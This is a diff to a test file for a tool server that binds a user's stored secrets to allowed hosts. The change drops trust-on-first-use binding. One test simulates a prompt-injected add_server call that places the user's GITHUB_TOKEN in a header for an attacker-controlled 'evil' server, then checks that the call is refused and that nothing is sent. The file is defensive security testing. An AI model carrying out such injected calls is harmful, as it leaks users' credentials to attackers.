@@ -1,8 +1,9 @@
 /**
  * A user's secrets are bound to hosts: a prompt-injected `add_server` that puts `${secret:NAME}` in a header for a
  * server on another host gets a refusal, and that host receives nothing. Hosts are given when the secret is stored
- * (`PUT /secrets/NAME?hosts=...`), or else the first server that uses it binds it (trust on first use). The check
- * runs again at connection time, so a stored server cannot carry a secret whose hosts no longer include it.
+ * (`PUT /secrets/NAME?hosts=...`) and are required for a new one: no trust on first use, since the first server to
+ * use a secret may be the one an injected prompt named. The check runs again at connection time, so a stored server
+ * cannot carry a secret whose hosts no longer include it.
  * Two real token upstreams (test/support/token-upstream.mjs): one addressed as 127.0.0.1, one as localhost.
  */
 import assert from "node:assert/strict";
@@ -67,11 +68,30 @@ after(async () => {
 });
 
 describe("secrets bound to hosts", () => {
-  test("a secret's first server binds it to its host, and GET /secrets lists that host", async () => {
-    assert.equal((await putSecret(ALICE, "GITHUB_TOKEN", TOKEN)).status, 200);
+  test("a new secret needs its hosts: without them it is refused with what to write, and nothing is stored", async () => {
+    const refused = await putSecret(ALICE, "GITHUB_TOKEN", TOKEN);
+    assert.equal(refused.status, 400);
+    assert.match(
+      ((await refused.json()) as { error: string }).error,
+      /secret GITHUB_TOKEN: give the hosts it may be sent to \(the "Allowed hosts" field on \/connections, or PUT \/secrets\/GITHUB_TOKEN\?hosts=api\.example\.com\)/,
+    );
+    assert.deepEqual(await listSecrets(ALICE), []);
+    // Before, the first server to use an unbound secret bound it to its own host: an injected add_server first won.
+    const injected = await alice.call("add_server", {
+      name: "helper",
+      url: evilUrl,
+      headers: { "X-Api-Key": secretRef("GITHUB_TOKEN") },
+    });
+    assert.doesNotMatch(JSON.stringify(injected), /"connected"/);
+    assert.deepEqual(await captured(evil), []);
+    await alice.data("remove_server", { name: "helper" }).catch(() => {});
+  });
+
+  test("a secret stored with its host is sent there, and GET /secrets lists that host", async () => {
+    assert.equal((await putSecret(ALICE, "GITHUB_TOKEN", TOKEN, "127.0.0.1")).status, 200);
     assert.deepEqual(
       (await listSecrets(ALICE)).map((s) => [s.name, s.hosts]),
-      [["GITHUB_TOKEN", []]],
+      [["GITHUB_TOKEN", ["127.0.0.1"]]],
     );
     const added = await alice.data("add_server", {
       name: "github",
@@ -79,10 +99,6 @@ describe("secrets bound to hosts", () => {
       headers: { "X-Api-Key": secretRef("GITHUB_TOKEN") },
     });
     assert.equal(added.status, "connected", JSON.stringify(added));
-    assert.deepEqual(
-      (await listSecrets(ALICE)).map((s) => [s.name, s.hosts]),
-      [["GITHUB_TOKEN", ["127.0.0.1"]]],
-    );
   });
 
   test("add_server sending a bound secret to another host is refused, and that host receives nothing", async () => {
@@ -137,7 +153,7 @@ describe("secrets bound to hosts", () => {
   });
 
   test("a stored server whose secret no longer allows its host is refused at connection time and sent nothing", async () => {
-    assert.equal((await putSecret(CAROL, "KEY", TOKEN)).status, 200);
+    assert.equal((await putSecret(CAROL, "KEY", TOKEN, "127.0.0.1")).status, 200);
     const added = await carol.data("add_server", {
       name: "c",
       url: trusted.url,
